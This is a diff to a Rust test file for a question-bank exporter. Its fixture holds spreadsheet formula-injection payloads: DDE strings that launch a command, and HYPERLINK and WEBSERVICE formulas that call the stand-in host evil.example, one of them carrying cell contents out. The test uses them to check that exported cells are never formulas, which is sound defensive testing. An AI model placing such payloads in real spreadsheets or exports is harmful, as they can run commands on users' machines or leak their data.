@@ -81,7 +81,7 @@ fn note_fields(apkg: &Path, scratch: &Path) -> Vec<Vec<String>> {
 
 /// Every text column of the CSV export; `number`, `line` and `end_line`
 /// are written by qbank as digits.
-const CSV_TEXT_COLUMNS: [usize; 8] = [0, 2, 3, 4, 5, 8, 9, 14];
+const CSV_TEXT_COLUMNS: [usize; 9] = [0, 2, 3, 4, 5, 8, 9, 14, 15];
 
 const HOSTILE_BANK: &str = "# =cmd|' /C calc'!A0\n\n## 1. =HYPERLINK(\"http://evil.example/?\"&A1,\"click\") {#@evil-id}\n\n**Question:** =1+1\n\n**Answer:** +cmd|' /C calc'!A0\n\n**Analysis:** -2+3\n\n## 2. @SUM(A1:A9)\n\n**Question:** @x\n\n**Answer:**\n\n- a bullet list\n\n**Analysis:** =WEBSERVICE(\"http://evil.example\")\n\n## 3. +1\n\n**Question:** -1\n\n**Answer:**\n\n1. **=SUM(A1:A9):** +1\n";
 
@@ -212,7 +212,7 @@ fn xlsx_cells_are_never_formulas() {
         .filter(|(n, _)| n.starts_with("xl/worksheets/sheet"))
         .map(|(_, b)| String::from_utf8(b).unwrap())
         .collect();
-    assert_eq!(sheets.len(), 4);
+    assert_eq!(sheets.len(), 5);
     for xml in &sheets {
         // No formula element, and every cell is an inline string or a
         // number: never `t="str"` (a formula's cached text), `t="e"` or `t="b"`.
